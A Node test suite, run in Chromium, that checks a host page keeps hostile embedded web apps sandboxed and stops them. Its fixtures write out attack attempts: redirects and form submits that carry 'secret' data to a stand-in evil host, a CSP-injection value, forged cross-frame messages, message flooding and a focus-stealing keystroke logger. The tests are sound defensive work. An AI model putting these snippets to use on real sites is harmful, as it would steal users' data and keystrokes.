/** Apps that are hostile: none of what they try succeeds, in Chromium, under a strict policy. */
import assert from "node:assert/strict";
import { after, afterEach, before, beforeEach, test } from "node:test";
import { appPage, logged, openHost, outcomeOf, startApps } from "./support/apps.mjs";
import { launch, openPage } from "./support/chromium.mjs";
import { expectState } from "./support/wait.mjs";

let apps;
let browser;
let opened;
let page;

before(async () => {
	[apps, browser] = await Promise.all([startApps(), launch()]);
});
after(async () => {
	await browser?.close();
	apps?.close();
});
beforeEach(async () => {
	apps.asked.splice(0);
	opened = await openPage(browser);
	page = opened.page;
	await openHost(page, apps.host);
});
afterEach(async () => {
	assert.equal(new URL(page.url()).origin, apps.host, "the page is still the host's");
	assert.deepEqual(await page.evaluate(() => [document.title, localStorage.length, document.cookie]), [
		"Host",
		0,
		"",
	]);
	assert.equal(page.context().pages().length, 1, "no window was opened");
	assert.deepEqual(await page.context().cookies(), []);
	assert.deepEqual(apps.asked, [], "nobody else was asked");
	await opened.close();
});

const show = (html, options) =>
	page.evaluate(([html, options]) => void globalThis.host.show(html, options), [html, options]);
const heard = (name) =>
	page.evaluate(
		(name) => globalThis.host.heard.filter((one) => one.name === name).map(({ args }) => args),
		name,
	);
const ended = () =>
	expectState(page, () => globalThis.host.heard.find(({ name }) => name === "ended")?.args[0], null, 20_000);
/** A page that greets, and then runs a script; `say` writes to its log, and `ask` asks. */
const script = (body) => `<!doctype html><body><script>
	const send = (message) => parent.postMessage({ jsonrpc: "2.0", ...message }, "*");
	const say = (what, result) => send({ method: "notifications/message", params: { level: "info", data: { what, result } } });
	const waiting = new Map(); let last = 0;
	const ask = (method, params) => new Promise((resolve) => { last += 1; waiting.set(last, resolve); send({ id: last, method, params }); });
	const evil = ${JSON.stringify(apps.evil)};
	addEventListener("message", ({ data }) => waiting.get(data.id)?.(data));
	ask("ui/initialize", { appInfo: { name: "a", version: "1" }, appCapabilities: {}, protocolVersion: "2026-01-26" }).then(async () => {
		send({ method: "ui/notifications/initialized" });
		${body}
	});
</script>`;

test("an app gets nothing of the host, of others, of the browser or of the network", async () => {
	const downloads = [];
	page.on("download", (download) => downloads.push(download.url()));
	page.on("dialog", (dialog) => {
		downloads.push("dialog");
		void dialog.dismiss();
	});
	const html = (await appPage("attack.html")).replaceAll("EVIL", apps.evil);
	const tools = [{ name: "count" }, { name: "model_only", _meta: { ui: { visibility: ["model"] } } }];
	const csp = {
		connectDomains: [
			apps.evil.replace("127.0.0.1", "0.0.0.0"),
			`https://x.example; connect-src ${apps.evil}`,
			"*",
		],
		resourceDomains: ["data:", "'self'", "http:", `${apps.evil}/path`],
		frameDomains: ["*", `'self' ${apps.evil}`],
		baseUriDomains: ["*"],
	};
	await show(html, {
		functions: ["callTool", "onMessage"],
		tools,
		meta: { csp, permissions: { camera: {} } },
	});
	const { got } = await logged(page, "got", 60_000);
	const names = Object.keys(got);
	assert.ok(names.length > 35, `${names.length} attacks were tried`);
	assert.deepEqual(
		names.filter((name) => got[name] !== null),
		[],
		JSON.stringify(got),
	);
	assert.deepEqual(await heard("callTool"), []);
	assert.deepEqual(await heard("onMessage"), []);
	assert.equal(await page.locator(".question").count(), 0, "nothing was asked that must not be opened");
	assert.deepEqual(downloads, []);
	const handle = await page.evaluate(() => globalThis.host.handles[0].refusedDomains.length);
	assert.equal(handle, 10);
});

test("an app that leaves its document gets nowhere and is stopped", async () => {
	const ways = [
		`location = evil + "/location"`,
		`location.replace(evil + "/replace?secret")`,
		`location = "data:text/html,<script>parent.postMessage(1,'*')</" + "script>"`,
		`location = URL.createObjectURL(new Blob(["<script>fetch('" + evil + "/blob')</" + "script>"], { type: "text/html" }))`,
		`document.head.innerHTML = '<meta http-equiv="refresh" content="0; url=' + evil + '/refresh">'`,
		`const link = document.createElement("a"); link.href = evil + "/link?secret"; document.body.append(link); link.click()`,
		`const form = document.createElement("form"); form.action = evil + "/form"; document.body.append(form); form.submit()`,
		`const frame = document.createElement("iframe"); frame.name = "inner"; document.body.append(frame); window.open(evil + "/inner", "inner")`,
	];
	for (const way of ways) {
		await show(
			script(
				`addEventListener("load", () => setTimeout(() => { ${way} }, 50)); say("begun", 1); if (document.readyState === "complete") { ${way} }`,
			),
		);
		await outcomeOf(page, "begun");
		await page.waitForTimeout(400);
		await page.evaluate(async () => {
			await globalThis.host.handles.pop().end();
			globalThis.host.heard.splice(0);
		});
	}
	assert.deepEqual(apps.asked, []);
	await show(script(`say("begun", 1); setTimeout(() => { location = evil + "/left" }, 300)`));
	assert.equal((await ended()).why, "left");
	assert.match(await page.locator(".note").innerText(), /left its page and was stopped/);
});

test("an app that floods costs the host little and is stopped", async () => {
	await show(
		script(`const flood = () => { for (let n = 0; n < 2000; n += 1) send({ method: "ui/notifications/size-changed", params: { height: n } });
			setTimeout(flood, 0); }; flood()`),
	);
	assert.equal((await ended()).why, "flooded");
	assert.ok(
		(await page.evaluate(() => globalThis.host.messages())) < 1500,
		"few of them have reached the host",
	);
	assert.equal(page.frames().length, 1);
});

test("an app cannot speak for another one, nor to it, nor for the sandbox page", async () => {
	await show(
		script(`addEventListener("message", ({ data }) => data?.forged && say("got", "a forged message"));
			say("waits", 1)`),
		{ functions: ["callTool"] },
	);
	await outcomeOf(page, "waits");
	await show(
		script(`
			const call = { jsonrpc: "2.0", id: 77, method: "tools/call", params: { name: "count" } };
			const forged = { forged: true };
			top.postMessage(call, "*"); parent.parent.postMessage(call, "*");
			const others = [];
			for (const from of [top, parent, parent.parent]) for (let at = 0; at < from.length; at += 1) others.push(from[at]);
			for (const other of others) { other.postMessage(forged, "*"); for (let at = 0; at < other.length; at += 1) other[at].postMessage(forged, "*"); }
			for (const end of ["proxy-ready", "resource-ready", "app-stopped", "anything"])
				send({ method: "ui/notifications/sandbox-" + end, params: { html: "<p>other", why: "left" } });
			say("tried", others.length)`),
	);
	assert.equal((await outcomeOf(page, "tried")).result, 0, "no frame of another app is found");
	await page.waitForTimeout(300);
	assert.deepEqual(await heard("callTool"), []);
	assert.deepEqual(await heard("ended"), []);
	const log = await page.evaluate(() => globalThis.host.log().map(({ what }) => what));
	assert.deepEqual(log, ["waits", "tried"], "nothing forged arrived, and nobody began anew");
});

test("an app does not run on after its end, and what it waits for is aborted", async () => {
	await show(
		script(`ask("tools/call", { name: "count" });
			addEventListener("message", ({ data }) => data.method === "ui/resource-teardown" && say("goodbye", 1));
			addEventListener("pagehide", () => send({ method: "tools/call", id: "late", params: { name: "count" } }));
			addEventListener("beforeunload", (event) => event.preventDefault());
			setInterval(() => { top.postMessage("still here", "*"); }, 10); say("begun", 1)`),
		{ functions: ["callTool"], hangs: true },
	);
	await outcomeOf(page, "begun");
	assert.equal(page.frames().length, 3);
	await page.evaluate(() => globalThis.host.handles[0].end("Enough."));
	await outcomeOf(page, "goodbye");
	assert.equal((await heard("callTool")).length, 1);
	assert.equal((await heard("callTool aborted")).length, 1);
	assert.equal(page.frames().length, 1);
	assert.equal(await page.evaluate(() => document.querySelector("#place").childElementCount), 0);
	const before = await page.evaluate(() => globalThis.host.messages());
	await page.waitForTimeout(200);
	assert.equal(await page.evaluate(() => globalThis.host.messages()), before);
});

test("an app cannot be shown from the page's own origin, however it is written", async () => {
	for (const url of [
		"/sandbox.html",
		`${apps.host}/pkg/apps/sandbox.html`,
		"",
		"about:blank",
		"data:text/html,x",
		"blob:x",
	]) {
		const said = await page.evaluate((sandboxUrl) => {
			try {
				globalThis.host.show("<p>", { sandboxUrl });
				return "shown";
			} catch ({ name, code }) {
				return `${name} ${code}`;
			}
		}, url);
		assert.equal(said, "WebMcpError invalid_argument", url);
	}
	assert.equal(page.frames().length, 1);
});

test("the sandbox page shows nothing on the origin of the page around it, nor alone", async () => {
	const other = await page.context().newPage();
	await other.goto(`${apps.sandbox}/sandbox.html`);
	await other.getByText("shows apps inside of another page").waitFor();
	await other.evaluate((src) => {
		const frame = document.createElement("iframe");
		frame.src = src;
		document.body.append(frame);
		globalThis.messages = [];
		addEventListener("message", ({ data }) => globalThis.messages.push(data));
	}, `${apps.sandbox}/sandbox.html`);
	await other.frameLocator("iframe").getByText("must be served from another origin").waitFor();
	assert.deepEqual(await other.evaluate(() => globalThis.messages), []);
	await other.close();
});

test("questions are asked one at a time, not answered by a hasty click, and not asked for ever", async () => {
	const popups = [];
	page.context().on("page", (one) => popups.push(one.url()));
	await show(
		script(`const open = () => ask("ui/open-link", { url: "https://x.example/" + "a".repeat(300) });
			addEventListener("message", ({ data }) => data.method === "ui/notifications/tool-input" && again());
			let round = 0;
			async function again() { round += 1; const [first, second] = await Promise.all([open(), open()]);
				say("round " + round, [first.error?.code ?? "opened", second.error?.code ?? "opened"]); if (round < 5) again(); }
			again()`),
	);
	const no = page.getByRole("button", { name: "Don’t" });
	await no.waitFor();
	assert.equal(await page.locator(".question").count(), 1);
	assert.ok(
		(await page.locator(".about").innerText()).endsWith("a".repeat(300)),
		"the address is there in full",
	);
	await page.evaluate(() => {
		const root = globalThis.host.handles[0].element.shadowRoot;
		for (const button of root.querySelectorAll("button")) button.click();
	});
	assert.equal(await page.locator(".question").count(), 1, "a click at once answers nothing");
	for (let times = 1; times <= 3; times += 1) {
		await no.waitFor();
		await page.waitForTimeout(600);
		await no.click();
		await outcomeOf(page, `round ${times}`);
	}
	assert.deepEqual((await outcomeOf(page, "round 5")).result, [-32000, -32000]);
	assert.equal(await page.locator(".question").count(), 0, "who has said no three times is asked no more");
	assert.deepEqual(popups, []);
});

test("an app cannot have what the person writes in the page", async () => {
	await page.evaluate(() => {
		const field = document.createElement("input");
		field.id = "field";
		document.body.prepend(field);
	});
	const field = page.locator("#field");
	const words = "A secret that only the page may know.";
	const stolen = () => page.evaluate(() => globalThis.host.log().filter(({ what }) => what === "typed"));
	const thief = (every, times) =>
		`${script(`addEventListener("keydown", ({ key }) => say("typed", key)); let left = ${times};
			const take = () => { window.focus(); document.querySelector("input").focus(); left -= 1; if (left > 0) setTimeout(take, ${every}); };
			addEventListener("message", ({ data }) => data.method === "ui/notifications/tool-input" && take()); say("begun", 1)`)}<input>`;
	const begin = async (app) => {
		await show(app);
		await outcomeOf(page, "begun");
		await field.click();
		await page.evaluate(() => globalThis.host.handles.at(-1).toolInput({}));
	};
	// One that takes it now and then gets a key each time at most,
	await begin(thief(700, 3));
	await page.keyboard.type(words, { delay: 60 });
	assert.ok((await field.inputValue()).length >= words.length - 3, await field.inputValue());
	assert.ok((await stolen()).length <= 3);
	assert.deepEqual(await heard("ended"), []);
	await page.evaluate(() => globalThis.host.handles[0].end());
	await page.evaluate(() => globalThis.host.heard.splice(0));
	// and one that goes on is stopped.
	await begin(thief(30, 1000));
	assert.equal((await ended()).why, "grabbed");
	await page.getByText("took the keyboard again and again").waitFor();
	await page.keyboard.type("!");
	assert.ok((await field.inputValue()).includes("!"));
});
